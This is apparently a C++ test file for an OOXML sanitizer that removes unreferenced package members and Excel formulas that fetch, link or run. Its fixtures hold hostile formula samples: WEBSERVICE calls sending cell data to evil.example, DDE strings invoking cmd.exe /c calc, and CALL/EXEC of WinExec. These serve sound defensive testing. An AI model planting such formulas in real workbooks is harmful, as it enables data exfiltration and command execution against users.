// sanitizer.ooxml, red-team gaps of 2026-11-23: package members nothing refers to, and Excel
// formulas that fetch, link or run. Fixtures are built here; results are checked with python3's
// zipfile (independent of our reader) and, when installed, LibreOffice.
#include <catch2/catch.hpp>
#include <chrono>

#include "sanitizers/ooxml/formulas.h"
#include "sanitizers/ooxml/ooxml.h"
#include "src/zip/zip.h"
#include "support/test_support.h"
#include "support/tools.h"
#include "unit/sanitizers/office_checks.h"
#include "unit/sanitizers/office_fixtures.h"

using namespace mugai;
using namespace mugai::test::office;
using mugai::sanitizers::ooxml::FormulaRisk;
using mugai::sanitizers::ooxml::formulaRisk;
using mugai::sanitizers::ooxml::OoxmlSanitizer;
using mugai::sanitizers::ooxml::Options;

namespace {

/// python3 (zipfile + ElementTree), independent of our reader: prints each member, then
/// "ORPHAN <name>" for every member that is neither [Content_Types].xml, a relationships part of
/// a reachable part, nor reachable from _rels/.rels through internal relationships.
constexpr const char* kOrphanCheck = R"PY(
import sys, zipfile, posixpath, urllib.parse, re
from xml.etree import ElementTree as ET
z = zipfile.ZipFile(sys.argv[1])
names = {urllib.parse.unquote(n).lower(): n for n in z.namelist()}
def rels_of(p):
    d, f = posixpath.split(p)
    return posixpath.join(d, '_rels', f + '.rels') if p else '_rels/.rels'
reach, todo, seen = set(), [''], set()
while todo:
    src = todo.pop()
    if src in seen: continue
    seen.add(src)
    rn = rels_of(src).lower()
    if rn not in names: continue
    for r in ET.fromstring(z.read(names[rn])):
        if r.get('TargetMode', '').lower() == 'external': continue
        t = urllib.parse.unquote(r.get('Target', '')).split('#')[0]
        full = t[1:] if t.startswith('/') else posixpath.join(posixpath.dirname(src), t)
        full = posixpath.normpath(full).lower()
        reach.add(full); todo.append(full)
for l, n in names.items():
    print('MEMBER', n)
    if l == '[content_types].xml': continue
    m = re.match(r'(.*?)_rels/(.*)\.rels$', l)
    if m and (m.group(1) + m.group(2) == '' or m.group(1) + m.group(2) in reach): continue
    if l not in reach: print('ORPHAN', n)
)PY";

/// Member names of `zip_bytes` as python3's zipfile lists them, after checking that none is an
/// orphan; empty when python3 is missing.
std::vector<std::string> pythonMembers(const std::string& zip_bytes) {
  if (test::toolMissing("python3")) return {};
  test::TempDir tmp;
  auto path = tmp.path() / "out.zip";
  test::writeFile(path, zip_bytes);
  auto r = test::runTool({"python3", "-c", kOrphanCheck, path.string()});
  INFO(r.output);
  REQUIRE(r.exit_code == 0);
  REQUIRE(r.output.find("ORPHAN") == std::string::npos);
  std::vector<std::string> names;
  std::size_t p = 0;
  while ((p = r.output.find("MEMBER ", p)) != std::string::npos) {
    std::size_t nl = r.output.find('\n', p);
    names.push_back(r.output.substr(p + 7, nl - p - 7));
    p = nl;
  }
  return names;
}

bool contains(const std::vector<std::string>& v, const std::string& s) {
  return std::find(v.begin(), v.end(), s) != v.end();
}

std::string findingsText(const Outcome& o) {
  std::string s;
  for (const auto& f : o.findings) s += f.key + " " + f.value + "\n";
  return s;
}

/// A .docx (from the .docm fixture) with legitimate extra parts reached the usual ways
/// (docProps from _rels/.rels, customXml through the document's and its own relationships, an
/// image) and with members nothing (kept) refers to.
Members docxWithStrays() {
  Members m = docmMembers();
  for (auto& [name, data] : m) {
    if (name == "_rels/.rels") {
      data.insert(
          data.rfind("</Relationships>"),
          R"(<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>)");
    }
    if (name == "word/_rels/document.xml.rels") {
      data.insert(
          data.rfind("</Relationships>"),
          R"(<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/>)"
          // A part name with non-ASCII characters: percent-encoded in the ZIP item name (OPC),
          // in the target once encoded and once as UTF-8.
          R"(<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/%E7%94%BB%E5%83%8F.png"/>)"
          "<Relationship Id=\"rId10\" "
          "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" "
          "Target=\"media/\xE5\x9B\xB3.png\"/>"
          R"(<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXml" Target="../customXml/item1.xml"/>)");
    }
    if (name == "word/_rels/vbaProject.bin.rels") {  // reachable only through removed VBA
      data.insert(
          data.rfind("</Relationships>"),
          R"(<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image5.png"/>)");
    }
    if (name == "[Content_Types].xml") {
      data.insert(
          data.find("</Types>"),
          R"(<Default Extension="png" ContentType="image/png"/><Override PartName="/word/media/run.hta" ContentType="application/hta"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/><Override PartName="/customXml/itemProps1.xml" ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/>)");
    }
  }
  m.push_back(
      {"docProps/core.xml",
       R"(<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>t</dc:title></cp:coreProperties>)"});
  m.push_back({"customXml/item1.xml", R"(<?xml version="1.0"?><b:Sources xmlns:b="urn:x"/>)"});
  m.push_back(
      {"customXml/_rels/item1.xml.rels",
       R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXmlProps" Target="itemProps1.xml"/></Relationships>)"});
  m.push_back(
      {"customXml/itemProps1.xml",
       R"(<?xml version="1.0"?><ds:datastoreItem ds:itemID="{1}" xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>)"});
  m.push_back({"word/media/image1.png", chainPng(8, 8)});
  m.push_back({"word/media/%E7%94%BB%E5%83%8F.png", chainPng(9, 9)});
  m.push_back({"word/media/%E5%9B%B3.png", chainPng(10, 10)});
  // The strays: an executable and an HTA parked among the media, a payload at the root, a
  // directory entry, a picture only a removed part pointed at, and relationships of a part that
  // does not exist (pointing at the executable, to make it look referenced).
  m.push_back({"word/media/", ""});
  m.push_back({"word/media/setup.exe", std::string("MZ\x90\0inert placeholder", 20)});
  m.push_back({"word/media/run.hta", "<script>/* inert placeholder */</script>"});
  m.push_back({"payload.bin", "inert placeholder"});
  m.push_back({"word/media/image5.png", "\x89PNG placeholder 5"});
  m.push_back(
      {"word/_rels/ghost.xml.rels",
       R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/setup.exe"/></Relationships>)"});
  return m;
}

}  // namespace

TEST_CASE("ooxml: members nothing refers to are removed, referenced ones stay",
          "[ooxml][adversarial]") {
  OoxmlSanitizer s(Options{});
  std::string in = pack(docxWithStrays());
  Outcome o = runSanitizer(s, in, "strays.docx");
  REQUIRE(o.verdict == Verdict::Modified);
  REQUIRE(o.replacement);
  INFO(findingsText(o));
  for (const char* gone :
       {"word/media/setup.exe", "word/media/run.hta", "payload.bin", "word/media/image5.png"})
    CHECK(hasFinding(o, "removed", gone));
  const std::string& out = o.replacement->data;
  std::string ct = zipMemberText(out, "[Content_Types].xml");
  CHECK(ct.find("run.hta") == std::string::npos);
  CHECK(ct.find("/docProps/core.xml") != std::string::npos);

  zip::Failure f;
  auto a = zip::Archive::open(out, {}, &f);
  REQUIRE(a);
  for (const char* kept :
       {"[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels",
        "word/settings.xml", "word/_rels/settings.xml.rels", "docProps/core.xml",
        "customXml/item1.xml", "customXml/_rels/item1.xml.rels", "customXml/itemProps1.xml",
        "word/media/image1.png", "word/media/%E7%94%BB%E5%83%8F.png", "word/media/%E5%9B%B3.png"}) {
    INFO(kept);
    CHECK(a->find(kept));
  }
  CHECK(a->entries().size() == 13);

  // Independent: python's zipfile lists exactly those, and finds no orphan among them.
  auto names = pythonMembers(out);
  if (!names.empty()) {
    CHECK(names.size() == 13);
    CHECK_FALSE(contains(names, "word/media/setup.exe"));
    CHECK_FALSE(contains(names, "word/_rels/ghost.xml.rels"));
    CHECK_FALSE(contains(names, "word/media/"));
  }
  // Idempotent, and the rebuilt document still opens with its text.
  REQUIRE(runSanitizer(s, out, "strays.docx").verdict == Verdict::Pass);
  test::TempDir tmp;
  auto path = tmp.path() / "strays.docx";
  test::writeFile(path, out);
  if (!test::toolMissing("unzip")) requireUnzipOk(path);
  std::string text = sofficeText(path, tmp.path());
  if (!text.empty()) CHECK(text.find(std::string(kDocText)) != std::string::npos);
}

TEST_CASE("ooxml: a stray alone makes a plain package Modified, no _rels/.rels fails closed",
          "[ooxml][adversarial]") {
  OoxmlSanitizer s(Options{});
  Members m = xlsmMembers();
  m.push_back({"xl/media/tool.exe", "MZ inert"});
  Outcome o = runSanitizer(s, pack(m), "b.xlsm");
  REQUIRE(o.replacement);
  CHECK(hasFinding(o, "removed", "xl/media/tool.exe"));

  // A directory entry alone is not a part: removed without a finding, still a rebuild.
  Members plain = {
      {"[Content_Types].xml",
       R"(<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>)"},
      {"_rels/.rels",
       R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="/word/document.xml"/></Relationships>)"},
      {"word/document.xml", "<w:document xmlns:w=\"urn:w\"/>"}};
  std::string ok = pack(plain);
  REQUIRE(runSanitizer(s, ok, "p.docx").verdict == Verdict::Pass);
  plain.push_back({"word/", ""});
  Outcome d = runSanitizer(s, pack(plain), "p.docx");
  CHECK(d.verdict == Verdict::Modified);
  CHECK(d.findings.empty());

  Members twice = docmMembers();  // two members naming one part
  twice.push_back({"word/document%2Exml", "x"});
  CHECK(runSanitizer(s, pack(twice), "x.docx").reason == Reason::ParseMalformed);

  Members norels;
  for (const auto& [n, data] : docmMembers()) {
    if (n != "_rels/.rels") norels.push_back({n, data});
  }
  CHECK(runSanitizer(s, pack(norels), "x.docx").reason == Reason::ParseMalformed);
}

TEST_CASE("ooxml formulas: what counts as a call that fetches, links or runs", "[ooxml]") {
  using K = FormulaRisk::Kind;
  struct Case {
    const char* formula;
    K kind;
    const char* what;
  };
  const Case cases[] = {
      {R"F(_xlfn.WEBSERVICE("http://evil.example/?"&A1))F", K::Function, "WEBSERVICE"},
      {R"F(webservice("x"))F", K::Function, "WEBSERVICE"},
      {R"F(_xlfn.FILTERXML(_xlfn.WEBSERVICE("u"),"//a"))F", K::Function, "FILTERXML"},
      {R"F(IF(A1,HYPERLINK("http://x/"&B2,"go"),""))F", K::Function, "HYPERLINK"},
      {R"F(RTD("srv",,"t"))F", K::Function, "RTD"},
      {R"F(CALL("kernel32","WinExec","JCJ","calc",0))F", K::Function, "CALL"},
      {R"F(Register.ID("a","b"))F", K::Function, "REGISTER.ID"},
      {R"F(EXEC("calc"))F", K::Function, "EXEC"},
      {R"F(_xlfn._xlws.PY(0,1))F", K::Function, "PY"},
      {R"F(@IMAGE ("http://x/p.png"))F", K::Function, "IMAGE"},
      {R"F(cmd|'/c calc'!A0)F", K::Dde, "DDE"},
      {R"F(=MSEXCEL|'\..\..\Windows\System32\cmd.exe /c calc'!'')F", K::Dde, "DDE"},
      {R"F('cmd'|'x'!A1)F", K::Dde, "DDE"},
      {R"F(SUM([1]Sheet1!A1:A3))F", K::ExternalIndex, "external reference"},
      {R"F('[2]My Sheet'!B2)F", K::ExternalIndex, "external reference"},
      {R"F('file:///C:/x/[b.xlsx]S'!A1)F", K::ExternalPath, "external reference"},
      {R"F('\\host\share\[b.xlsx]S'!A1)F", K::ExternalPath, "external reference"},
      {R"F(\\host\share\x)F", K::ExternalPath, "external reference"},
      {R"F([C:\x\b.xlsx]S!A1)F", K::ExternalPath, "external reference"},
      {R"F(IF(1,0,EVALUATE("WEBSERVICE(""http://x/"")")))F", K::Function, "EVALUATE"},
      {R"F(SUM(1)&"abc)F", K::Malformed, "unreadable"},
      {R"F('abc!A1+WEBSERVICE("x"))F", K::Malformed, "unreadable"},
      {R"F(Table1[[Col]+WEBSERVICE("x"))F", K::Malformed, "unreadable"},
      // Harmless: calls and pipes inside string literals, sheet names, structured references,
      // ordinary functions whose names merely contain a risky one.
      {R"F(SUM(A1:B3)*2)F", K::None, ""},
      {R"F("WEBSERVICE(x) | [1]S!A1 \\h\s"&"HYPERLINK(""y"")")F", K::None, ""},
      {R"F('My Sheet'!A1+'Sheet 1:Sheet 3'!B2+'It''s'!C3)F", K::None, ""},
      {R"F(SUM(Table1[[#This Row],[Col]])+Table1[Col]+[@Amount])F", K::None, ""},
      {R"F(MYHYPERLINKS(1)+WEBSERVICEX+ENCODEURL("a"))F", K::None, ""},
      {R"F(_xlfn.XLOOKUP(A1,B:B,C:C))F", K::None, ""},
  };
  for (const Case& c : cases) {
    INFO(c.formula);
    FormulaRisk r = formulaRisk(c.formula);
    CHECK(r.kind == c.kind);
    CHECK(r.what == c.what);
  }
}

namespace {

constexpr const char* kSheetNs =
    R"(xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships")";

/// An .xlsx with risky and harmless formulas in cells, shared and array formulas, defined names
/// and a calculation chain.
Members xlsxWithFormulas() {
  Members m;
  m.push_back({"[Content_Types].xml",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"/></Types>)"});
  m.push_back({"_rels/.rels",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>)"});
  m.push_back(
      {"xl/workbook.xml",
       std::string(R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook )") +
           kSheetNs +
           R"(><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="leak">_xlfn.WEBSERVICE("http://evil.example/n")</definedName><definedName name="Total">Sheet1!$B$1:$B$3</definedName></definedNames><calcPr calcId="191029"/></workbook>)"});
  m.push_back({"xl/_rels/workbook.xml.rels",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/calcChain" Target="calcChain.xml"/></Relationships>)"});
  m.push_back(
      {"xl/worksheets/sheet1.xml",
       std::string(R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet )") +
           kSheetNs +
           R"(><sheetData>)"
           R"(<row r="1"><c r="A1" t="str"><f>_xlfn.WEBSERVICE("http://evil.example/?q="&amp;B1)</f><v>webval</v></c><c r="B1"><v>1</v></c><c r="C1"><f t="shared" ref="C1:C3" si="0">webservice(B1)</f><v>10</v></c><c r="D1"><f t="shared" ref="D1:D3" si="1">B1*2</f><v>2</v></c><c r="E1"><f t="array" ref="E1:E2">RTD("srv",,"t")</f><v>7</v></c><c r="F1" t="inlineStr"><is><t>)" +
           std::string(kSheetText) +
           R"(</t></is></c></row>)"
           R"(<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://evil.example/"&amp;B2,"click here")</f><v>click here</v></c><c r="B2"><v>2</v></c><c r="C2"><f t="shared" si="0"/><v>20</v></c><c r="D2"><f t="shared" si="1"/><v>4</v></c><c r="E2"><v>8</v></c></row>)"
           R"(<row r="3"><c r="A3"><f>cmd|'/c calc'!A0</f><v>0</v></c><c r="B3"><v>3</v></c><c r="C3"><f t="shared" si="0"></f><v>30</v></c><c r="D3"><f t="shared" si="1"/><v>6</v></c><c r="E3"><f>SUM(B1:B3)</f><v>6</v></c></row>)"
           R"(<row r="4"><c r="A4" t="str"><f>"WEBSERVICE(x) | [1]"&amp;"y"</f><v>WEBSERVICE(x) | [1]y</v></c><c r="B4"><f>[1]Sheet1!A1</f><v>5</v></c><c r="C4"><f><![CDATA[WEB]]>SERVICE("u")</f><v>9</v></c></row>)"
           R"(</sheetData></worksheet>)"});
  m.push_back({"xl/calcChain.xml",
               R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c r="A1" i="1"/><c r="C1"/><c r="D1"/><c r="E1"/><c r="A2"/><c r="C2"/><c r="D2"/><c r="A3"/><c r="C3"/><c r="D3"/><c r="E3"/><c r="A4"/><c r="B4"/><c r="C4"/></calcChain>)"});
  return m;
}

}  // namespace

TEST_CASE("ooxml: Excel formulas that fetch, link or run lose their formula, not their value",
          "[ooxml][adversarial]") {
  OoxmlSanitizer s(Options{});
  Outcome o = runSanitizer(s, pack(xlsxWithFormulas()), "formulas.xlsx");
  REQUIRE(o.verdict == Verdict::Modified);
  REQUIRE(o.replacement);
  INFO(findingsText(o));
  // A1, C1 (shared master) and its two followers, C4 (split by CDATA).
  CHECK(hasFinding(o, "removed", "xl/worksheets/sheet1.xml: formula WEBSERVICE x5"));
  CHECK(hasFinding(o, "removed", "xl/worksheets/sheet1.xml: formula HYPERLINK x1"));
  CHECK(hasFinding(o, "removed", "xl/worksheets/sheet1.xml: formula RTD x1"));
  CHECK(hasFinding(o, "removed", "xl/worksheets/sheet1.xml: formula DDE x1"));
  CHECK(hasFinding(o, "removed", "xl/worksheets/sheet1.xml: formula external reference x1"));
  CHECK(hasFinding(o, "removed", "xl/workbook.xml: definedName WEBSERVICE x1"));
  CHECK(hasFinding(o, "removed", "xl/calcChain.xml"));

  const std::string& out = o.replacement->data;
  std::string sheet = zipMemberText(out, "xl/worksheets/sheet1.xml");
  INFO(sheet);
  for (const char* gone : {"WEBSERVICE(\"http", "webservice(", "HYPERLINK", "RTD(", "cmd|",
                           "[1]Sheet1", "si=\"0\"", "CDATA"})
    CHECK(sheet.find(gone) == std::string::npos);
  for (const char* kept :
       {"<v>webval</v>", "<v>click here</v>", "<v>20</v>", "<v>30</v>",
        R"(<f t="shared" ref="D1:D3" si="1">B1*2</f>)", R"(<c r="D2"><f t="shared" si="1"/>)",
        "<f>SUM(B1:B3)</f>", R"(<f>"WEBSERVICE(x) | [1]"&amp;"y"</f>)", "<c r=\"A3\"><v>0</v>"})
    CHECK(sheet.find(kept) != std::string::npos);
  std::string wb = zipMemberText(out, "xl/workbook.xml");
  CHECK(wb.find("leak") == std::string::npos);
  CHECK(wb.find("<definedName name=\"Total\">") != std::string::npos);
  CHECK(zipMemberText(out, "xl/_rels/workbook.xml.rels").find("calcChain") == std::string::npos);
  CHECK(zipMemberText(out, "[Content_Types].xml").find("calcChain") == std::string::npos);
  auto names = pythonMembers(out);
  if (!names.empty()) CHECK_FALSE(contains(names, "xl/calcChain.xml"));
  REQUIRE(runSanitizer(s, out, "formulas.xlsx").verdict == Verdict::Pass);

  // Every defined name risky: the then empty definedNames container goes too.
  Members m = xlsxWithFormulas();
  for (auto& [n, d] : m) {
    if (n == "xl/workbook.xml") {
      auto p = d.find("<definedName name=\"Total\">");
      d.erase(p, d.find("</definedNames>") - p);
    }
  }
  Outcome o2 = runSanitizer(s, pack(m), "formulas.xlsx");
  REQUIRE(o2.replacement);
  CHECK(zipMemberText(o2.replacement->data, "xl/workbook.xml").find("definedNames") ==
        std::string::npos);

  test::TempDir tmp;
  auto path = tmp.path() / "formulas.xlsx";
  test::writeFile(path, out);
  if (std::getenv("MUGAI_KEEP_OUT"))
    test::writeFile(std::string(std::getenv("MUGAI_KEEP_OUT")) + "/formulas.xlsx", out);
  if (!test::toolMissing("unzip")) requireUnzipOk(path);
  // LibreOffice opens it and shows the cached values of the cells that lost their formula.
  std::string text = sofficeText(path, tmp.path());
  if (!text.empty()) {
    INFO(text);
    CHECK(text.find(std::string(kSheetText)) != std::string::npos);
    CHECK(text.find("webval") != std::string::npos);
    CHECK(text.find("click here") != std::string::npos);
  }
}

TEST_CASE("ooxml: risky formulas outside cells fail closed, index references there stay",
          "[ooxml][adversarial]") {
  OoxmlSanitizer s(Options{});
  auto withRule = [](const std::string& rule) {
    Members m = xlsxWithFormulas();
    for (auto& [n, d] : m) {
      if (n == "xl/worksheets/sheet1.xml") d.insert(d.find("</worksheet>"), rule);
    }
    return pack(m);
  };
  Outcome bad = runSanitizer(
      s,
      withRule(
          R"(<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>LEN(WEBSERVICE("http://evil.example/"))&gt;0</formula></cfRule></conditionalFormatting>)"),
      "cf.xlsx");
  CHECK(bad.reason == Reason::ContentActive);
  Outcome ok = runSanitizer(
      s,
      withRule(
          R"(<dataValidations count="1"><dataValidation type="list" sqref="B1"><formula1>[1]Lists!$A$1:$A$3</formula1></dataValidation></dataValidations>)"),
      "dv.xlsx");
  CHECK(ok.verdict == Verdict::Modified);
}

TEST_CASE("ooxml: formula scanning stays linear on hostile shapes", "[ooxml][adversarial]") {
  // Unbalanced brackets, quotes and long names, many shared followers of a removed master.
  std::string big_formula =
      std::string(400000, '[') + std::string(400000, '\'') + std::string(400000, 'A') + "(";
  auto t0 = std::chrono::steady_clock::now();
  (void)formulaRisk(big_formula);
  (void)formulaRisk(std::string(1000000, '"'));
  std::string sheet =
      std::string("<worksheet ") + kSheetNs +
      R"(><sheetData><row r="1"><c r="A1"><f t="shared" ref="A1:A60000" si="0">WEBSERVICE("u")</f><v>1</v></c></row>)";
  for (int i = 2; i <= 60000; ++i)
    sheet += "<row r=\"" + std::to_string(i) + "\"><c r=\"A" + std::to_string(i) +
             "\"><f t=\"shared\" si=\"0\"/><v>1</v></c></row>";
  sheet += "</sheetData></worksheet>";
  Limits l;
  Budget b(l);
  auto fe = mugai::sanitizers::ooxml::removeRiskyFormulas(
      sheet, mugai::sanitizers::ooxml::SheetPart::Worksheet, b);
  auto secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  REQUIRE(fe.xml);
  CHECK(fe.cells["WEBSERVICE"] == 60000);
  CHECK(fe.xml->find("<f") == std::string::npos);
  CHECK(secs < 5.0);
}
